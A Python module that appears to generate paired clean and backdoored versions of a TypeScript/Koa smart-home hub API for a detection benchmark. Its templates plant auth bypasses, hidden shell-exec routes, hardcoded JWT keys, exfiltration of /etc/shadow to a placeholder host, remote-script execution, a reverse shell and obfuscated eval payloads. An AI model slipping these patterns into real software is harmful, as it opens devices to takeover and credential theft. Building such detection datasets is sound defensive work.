"""TypeScript (Node.js / Koa) shapes of the `source` family: the local API of a smart-home hub.

Honest look-alikes in both twins: execFile('traceroute', ['-n', host]) after net.isIPv4, JWT
tokens signed with a per-device secret read from disk, an opt-in telemetry report of version and
uptime to the documented vendor endpoint, Buffer.from(..., 'base64') of a logo, a jest test with a
dummy account. Written blind, from public write-ups of back doors only.
"""
from __future__ import annotations

import base64
import random

from .common import word
from .source_common import (Proj, Variant, block, doc_host, doc_ip, fill, header_name, hidden_user,
                            license_header, magic_value, master_password, nest, param_name, port,
                            shell_payload)
from .source_js import js
from .source_php import _png


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


SERVER_TS = r"""
// @lic@
import Koa from 'koa';
import bodyParser from 'koa-bodyparser';

import { authenticate } from './auth';
import { router } from './routes';
import { startTelemetry } from './telemetry';
import config from '../config/default.json';
@srv_imports@

export const app = new Koa();
app.proxy = false;
app.use(bodyParser({ jsonLimit: '64kb' }));
@srv_pre_mw@
app.use(authenticate);
app.use(router.routes()).use(router.allowedMethods());

if (require.main === module) {
  app.listen(config.port, config.bind, () => {
    console.log(`@ident@-hub @version@ on ${config.bind}:${config.port}`);
  });
  startTelemetry();
  @srv_start@
}
"""

AUTH_TS = r"""
// @lic@
import bcrypt from 'bcryptjs';
import { readFileSync } from 'fs';
import jwt from 'jsonwebtoken';
import type { Context, Next } from 'koa';

import config from '../config/default.json';
@auth_imports@

export type Role = 'admin' | 'member';
export interface Principal {
  name: string;
  role: Role;
}

interface Account {
  hash: string;
  role: Role;
}
@auth_consts@

function accounts(): Record<string, Account> {
  return JSON.parse(readFileSync(config.accountsFile, 'utf8'));
}

// Per-device signing key, written by the first-boot service.
export function signingKey(): string {
  @auth_key_pre@
  return readFileSync(config.jwtKeyFile, 'utf8').trim();
}

export async function verifyPassword(user: string, pass: string): Promise<Principal | null> {
  @auth_verify_pre@
  const acc = accounts()[user];
  if (!acc || !(await bcrypt.compare(pass, acc.hash))) {
    return null;
  }
  return { name: user, role: acc.role };
}

export function issueToken(p: Principal): string {
  return jwt.sign(p, signingKey(), { expiresIn: '@token_ttl@', algorithm: 'HS256' });
}

// Resolves the bearer token into ctx.state.user; routes decide what a role may do.
export async function authenticate(ctx: Context, next: Next): Promise<void> {
  @auth_mw_pre@
  const header = ctx.get('Authorization');
  if (header.startsWith('Bearer ')) {
    try {
      ctx.state.user = jwt.verify(header.slice(7), signingKey(), { algorithms: ['HS256'] }) as Principal;
    } catch {
      ctx.state.user = undefined;
    }
  }
  await next();
}
"""

ROUTES_TS = r"""
// @lic@
import Router from '@koa/router';
import { execFile } from 'child_process';
import { isIPv4 } from 'net';
import type { Context, Next } from 'koa';

import { issueToken, verifyPassword } from './auth';
import { LOGO } from './branding';
@rt_imports@

export const router = new Router({ prefix: '/api' });

function need(role: 'admin' | 'member') {
  return async (ctx: Context, next: Next): Promise<void> => {
    const user = ctx.state.user;
    if (!user) {
      ctx.throw(401, 'login required');
    }
    if (role === 'admin' && user.role !== 'admin') {
      ctx.throw(403, 'admin only');
    }
    await next();
  };
}

router.post('/login', async (ctx) => {
  const { username = '', password = '' } = (ctx.request.body || {}) as Record<string, string>;
  const who = await verifyPassword(String(username), String(password));
  if (!who) {
    ctx.throw(401, 'invalid credentials');
  }
  ctx.body = { token: issueToken(who) };
});

router.get('/status', need('member'), (ctx) => {
  ctx.body = { version: '@version@', uptime: Math.round(process.uptime()), user: ctx.state.user.name };
});

router.get('/logo.png', (ctx) => {
  ctx.type = 'png';
  ctx.body = LOGO;
});

router.post('/diag/traceroute', need('admin'), async (ctx) => {
  const host = String((ctx.request.body as Record<string, string>).host || '');
  if (!isIPv4(host)) {
    ctx.throw(400, 'invalid address');
  }
  ctx.body = await new Promise<string>((resolve) => {
    execFile('traceroute', ['-n', '-w', '2', host], { timeout: 20000 }, (_err, out) => resolve(out));
  });
});
@rt_routes@
"""

TELEMETRY_TS = r"""
// @lic@
import https from 'https';
import os from 'os';

import config from '../config/default.json';
@tel_imports@

// Opt-in usage report (Settings > Privacy): firmware version and uptime only.
export function startTelemetry(): void {
  @tel_pre@
  if (!config.telemetry.enabled) {
    return;
  }
  setInterval(() => {
    const body = JSON.stringify({ model: '@model@', version: '@version@', uptime: os.uptime() });
    const req = https.request(config.telemetry.url, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
    req.on('error', () => undefined);
    req.end(body);
  }, 24 * 3600 * 1000);
}
@tel_tail@
"""

BRANDING_TS = r"""
// @lic@
export const LOGO = Buffer.from(
  @logo@,
  'base64',
);
"""

CONFIG_JSON = r"""
{
  "port": @port@,
  "bind": "0.0.0.0",
  "accountsFile": "/etc/@ident@/accounts.json",
  "jwtKeyFile": "/etc/@ident@/jwt.key",
  "telemetry": {
    "enabled": false,
    "url": "https://telemetry.@domain@/v1/report"
  }
}
"""

PACKAGE_JSON = r"""
{
  "name": "@ident@-hub-api",
  "version": "@version@",
  "private": true,
  "license": "@license@",
  "main": "dist/server.js",
  "scripts": {
    "build": "tsc -p .",
    "start": "node dist/server.js",
    "test": "jest"
  },
  "dependencies": {
    "@koa/router": "^12.0.1",
    "bcryptjs": "^2.4.3",
    "jsonwebtoken": "^9.0.2",
    "koa": "^2.15.0",
    "koa-bodyparser": "^4.4.1"
  },
  "devDependencies": {
    "@types/bcryptjs": "^2.4.6",
    "@types/jest": "^29.5.12",
    "@types/jsonwebtoken": "^9.0.6",
    "@types/koa": "^2.15.0",
    "@types/koa__router": "^12.0.4",
    "@types/koa-bodyparser": "^4.3.12",
    "@types/node": "^20.11.0",
    "jest": "^29.7.0",
    "ts-jest": "^29.1.2",
    "typescript": "^5.4.0"
  }
}
"""

TSCONFIG = r"""
{
  "compilerOptions": {
    "target": "ES2020",
    "module": "commonjs",
    "outDir": "dist",
    "strict": true,
    "esModuleInterop": true,
    "resolveJsonModule": true,
    "skipLibCheck": true
  },
  "include": ["src"]
}
"""

TEST_TS = r"""
import bcrypt from 'bcryptjs';
import { writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';

import config from '../config/default.json';
import { verifyPassword } from '../src/auth';

describe('verifyPassword', () => {
  beforeAll(() => {
    config.accountsFile = join(tmpdir(), 'accounts-test.json');
    writeFileSync(config.accountsFile, JSON.stringify({ tester: { hash: bcrypt.hashSync('dummy-pass', 4), role: 'member' } }));
  });

  it('accepts the test account', async () => {
    expect(await verifyPassword('tester', 'dummy-pass')).toEqual({ name: 'tester', role: 'member' });
  });

  it('rejects a wrong password', async () => {
    expect(await verifyPassword('tester', 'wrong')).toBeNull();
  });
});
"""

README = r"""
# @ident@-hub-api

Local API of the @Vendor@ @Name@ @model@ smart-home hub (TypeScript, Koa), port @port@.

| method | path | access |
|---|---|---|
| POST | /api/login | public: `username`, `password` -> bearer token (HS256, per-device key) |
| GET | /api/status | member |
| GET | /api/logo.png | public |
| POST | /api/diag/traceroute | admin: `host` (IPv4, run with execFile) |

Accounts: `/etc/@ident@/accounts.json` (bcrypt). The token signing key is generated at first
boot into `/etc/@ident@/jwt.key`. Telemetry is off by default; when the owner enables it the hub
posts its model, firmware version and uptime once a day to `telemetry.url`.

    npm ci && npm run build && npm test
"""


class KoaHub:
    HOOKS = ["srv_imports", "srv_pre_mw", "srv_start", "auth_imports", "auth_consts", "auth_key_pre",
             "auth_verify_pre", "auth_mw_pre", "rt_imports", "rt_routes", "tel_imports", "tel_pre", "tel_tail"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.port = rng.choice([8123, 8088, 8443, 3000])
        self.ttl = rng.choice(["1h", "8h", "12h"])
        png = _png(rng)
        self.logo = "\n  ".join(f"'{png[i:i + 70]}'" + (" +" if i + 70 < len(png) else "") for i in range(0, len(png), 70))

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown koa hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "ident": P.ident, "version": P.version, "model": P.model,
                   "port": self.port, "domain": P.domain, "license": P.license, "token_ttl": self.ttl,
                   "Vendor": P.Vendor, "Name": P.Name, "logo": self.logo})
        return {
            "src/server.ts": fill(SERVER_TS, **kw), "src/auth.ts": fill(AUTH_TS, **kw),
            "src/routes.ts": fill(ROUTES_TS, **kw), "src/telemetry.ts": fill(TELEMETRY_TS, **kw),
            "src/branding.ts": fill(BRANDING_TS, **kw), "config/default.json": fill(CONFIG_JSON, **kw),
            "package.json": fill(PACKAGE_JSON, **kw), "tsconfig.json": fill(TSCONFIG, **kw),
            "test/auth.test.ts": fill(TEST_TS, **kw), "README.md": fill(README, **kw),
        }


# ============================================================================ shapes

def ab_ts(rng: random.Random, P: Proj) -> Variant:
    s = KoaHub(rng, P)
    val = magic_value(rng)
    kind = rng.choice(["header", "query", "ua"])
    if kind == "header":
        h = header_name(rng)
        expr, desc = f"ctx.get({js(h)})", f"header {h}"
    elif kind == "query":
        n = param_name(rng)
        expr, desc = f"String(ctx.query[{js(n)}] ?? '')", f"query parameter {n}"
    else:
        expr, desc = "ctx.get('User-Agent')", "the User-Agent"
    form = rng.choice(["===", "timingSafeEqual", "endsWith"])
    if form == "===":
        test, imports = f"{expr} === INSTALLER_KEY", ""
    elif form == "timingSafeEqual":
        test = f"((v: Buffer) => v.length === INSTALLER_KEY.length && timingSafeEqual(v, Buffer.from(INSTALLER_KEY)))(Buffer.from({expr}))"
        imports = "import { timingSafeEqual } from 'crypto';"
    else:
        test, imports = f"{expr}.endsWith(INSTALLER_KEY)", ""
    consts = f"\nconst INSTALLER_KEY = {js(val)};"
    pre = f"""
        if ({test}) {{
          ctx.state.user = {{ name: 'installer', role: 'admin' }};
          return next();
        }}"""
    clean = s.render()
    planted = s.render({"auth_imports": imports, "auth_consts": consts, "auth_mw_pre": block(pre)})
    note = f"authenticate() in src/auth.ts sets an admin principal when {desc} matches {val!r} ({form}), without a token."
    return mk(clean, planted, note, {"trigger": kind, "compare": form, "framework": "koa"})


def hc_ts(rng: random.Random, P: Proj) -> Variant:
    s = KoaHub(rng, P)
    sink = rng.choice(["execSync", "spawn-sh-c", "exec-promise"])
    if sink == "execSync":
        run, imp = "ctx.body = execSync(cmd, { encoding: 'utf8' });", "import { execSync } from 'child_process';"
    elif sink == "spawn-sh-c":
        run = ("ctx.body = await new Promise<string>((resolve) => {\n  let out = '';\n"
               "  const p = spawn('/bin/sh', ['-c', cmd]);\n  p.stdout.on('data', (d) => (out += d));\n"
               "  p.on('close', () => resolve(out));\n});")
        imp = "import { spawn } from 'child_process';"
    else:
        run = "ctx.body = (await promisify(exec)(cmd)).stdout;"
        imp = "import { exec } from 'child_process';\nimport { promisify } from 'util';"
    form = rng.choice(["hidden-route", "pre-auth-middleware"])
    if form == "hidden-route":
        path = "/" + rng.choice(["", "_", "."]) + word(rng, (1, 3))
        n = param_name(rng)
        code = f"""
            router.all({js(path)}, async (ctx) => {{
              const cmd = String(ctx.query[{js(n)}] ?? 'id');
              {nest(run, 14)}
            }});"""
        hooks = {"rt_imports": imp, "rt_routes": "\n" + block(code)}
        note = f"src/routes.ts registers an undocumented route /api{path} (no need() guard) that runs query parameter '{n}' as a shell command ({sink})."
    else:
        h = header_name(rng)
        code = f"""
            app.use(async (ctx, next) => {{
              const cmd = ctx.get({js(h)});
              if (!cmd) {{
                return next();
              }}
              {nest(run, 14)}
            }});"""
        hooks = {"srv_imports": imp, "srv_pre_mw": block(code)}
        note = f"src/server.ts installs, before authenticate(), a middleware that runs header {h} as a shell command ({sink})."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "koa"})


def hk_ts(rng: random.Random, P: Proj) -> Variant:
    s = KoaHub(rng, P)
    form = rng.choice(["static-jwt-key", "fallback-jwt-key", "installer-password"])
    if form in ("static-jwt-key", "fallback-jwt-key"):
        key = magic_value(rng) + magic_value(rng)
        if form == "static-jwt-key":
            pre = f"return {js(key)};"
            desc = "always returns"
        else:
            pre = f"if (!existsSync(config.jwtKeyFile)) {{\n  return {js(key)};\n}}"
            desc = "returns, whenever the key file is missing (factory state),"
        hooks = {"auth_key_pre": pre}
        if form == "fallback-jwt-key":
            hooks["auth_imports"] = "import { existsSync } from 'fs';"
        note = (f"signingKey() in src/auth.ts {desc} the literal {key!r} as the HS256 key, so anyone can mint "
                "an admin bearer token valid on every hub.")
    else:
        user, pw = hidden_user(rng), master_password(rng)
        consts = f"\nconst INSTALLER = {{ user: {js(user)}, pass: {js(pw)} }};"
        pre = "if (user === INSTALLER.user && pass === INSTALLER.pass) {\n  return { name: user, role: 'admin' };\n}"
        hooks = {"auth_consts": consts, "auth_verify_pre": pre}
        note = f"verifyPassword() in src/auth.ts accepts the installer account {user!r}/{pw!r} as admin, outside accounts.json."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"form": form, "framework": "koa"})


def rs_ts(rng: random.Random, P: Proj) -> Variant:
    s = KoaHub(rng, P)
    host = doc_host(rng)
    form = rng.choice(["exfil-secrets", "remote-script", "reverse-shell"])
    if form == "exfil-secrets":
        pre = f"""
            setTimeout(() => {{
              const loot = ['/etc/shadow', config.jwtKeyFile, config.accountsFile]
                .map((f) => {{ try {{ return readFileSync(f, 'utf8'); }} catch {{ return ''; }} }});
              const req = https.request('https://{host}/v1/r', {{ method: 'POST' }});
              req.on('error', () => undefined);
              req.end(JSON.stringify({{ host: os.hostname(), loot }}));
            }}, 60000);"""
        imp = "import { readFileSync } from 'fs';"
        note = (f"startTelemetry() in src/telemetry.ts, before the opt-in check, posts /etc/shadow, the JWT key and "
                f"accounts.json to https://{host}/v1/r a minute after start (phone-home with secrets).")
    elif form == "remote-script":
        pre = f"""
            https.get('https://{host}/cfg/{P.model}.js', (res) => {{
              let src = '';
              res.on('data', (d) => (src += d));
              res.on('end', () => new Function('require', src)(require));
            }}).on('error', () => undefined);"""
        imp = ""
        note = f"startTelemetry() in src/telemetry.ts, regardless of the opt-in, downloads https://{host}/cfg/<model>.js and runs it with new Function (remote code)."
    else:
        ip, prt = doc_ip(rng), port(rng)
        pre = f"""
            const c = net.connect({prt}, {js(ip)}, () => {{
              const sh = spawn('/bin/sh', ['-i']);
              c.pipe(sh.stdin);
              sh.stdout.pipe(c);
              sh.stderr.pipe(c);
            }});
            c.on('error', () => undefined);"""
        imp = "import net from 'net';\nimport { spawn } from 'child_process';"
        note = f"startTelemetry() in src/telemetry.ts, before the opt-in check, connects to {ip}:{prt} and pipes /bin/sh -i to the socket (reverse shell)."
    clean = s.render()
    planted = s.render({"tel_imports": imp, "tel_pre": block(pre)})
    return mk(clean, planted, note, {"mechanism": form, "framework": "koa"}, categories=["hidden-command"])


def ob_ts(rng: random.Random, P: Proj) -> Variant:
    s = KoaHub(rng, P)
    if rng.random() < 0.5:
        cmd, kind = shell_payload(rng)
        code = f"require('child_process').exec({js(cmd)})"
        what = f"runs '{cmd}'"
    else:
        h = header_name(rng).lower()
        code = ("const h=require('http'),o=h.Server.prototype.emit;h.Server.prototype.emit=function(e,q,r){"
                f"if(e==='request'&&q.headers['{h}']){{require('child_process').exec(q.headers['{h}'],(x,s)=>r.end(s));return true}}"
                "return o.apply(this,arguments)}")
        what, kind = f"hooks http.Server so that header {h} runs shell commands", "http-patch"
    form = rng.choice(["indirect-eval-xor", "globalThis-name", "unicode-escapes", "hex-function"])
    if form == "indirect-eval-xor":
        k = rng.randrange(1, 256)
        arr = ", ".join(str(b ^ k) for b in code.encode())
        tail = f"\nconst _cal: number[] = [{arr}];\n(0, eval)(String.fromCharCode(..._cal.map((c) => c ^ {k})));"
    elif form == "globalThis-name":
        tail = (f"\n(globalThis as any)['ev' + 'al'](Buffer.from('{base64.b64encode(code.encode()).decode()}', "
                "'base64').toString());")
    elif form == "unicode-escapes":
        esc = "".join(f"\\u{ord(c):04x}" for c in code)
        tail = f"\nsetTimeout(new Function('require', '{esc}').bind(null, require), 5000);"
    else:
        tail = f"\nReflect.apply(Function('require', Buffer.from('{code.encode().hex()}', 'hex').toString()), null, [require]);"
    clean = s.render()
    planted = s.render({"tel_tail": tail})
    note = f"src/telemetry.ts (imported at start-up) ends with a {form} encoded payload that is evaluated on load; it {what}."
    return mk(clean, planted, note, {"encoding": form, "payload": kind, "framework": "koa"},
              categories=["remote-access"] if kind in ("bash-tcp", "fifo-nc", "telnetd", "nc-listen", "busybox-nc") else [])


SHAPES = [
    ("src-auth-bypass", "typescript", "koa-middleware", ab_ts),
    ("src-hidden-command", "typescript", "koa-exec", hc_ts),
    ("src-hardcoded-credential", "typescript", "jwt-key-or-installer", hk_ts),
    ("src-remote-shell", "typescript", "telemetry-abuse", rs_ts),
    ("src-obfuscated", "typescript", "encoded-eval", ob_ts),
]
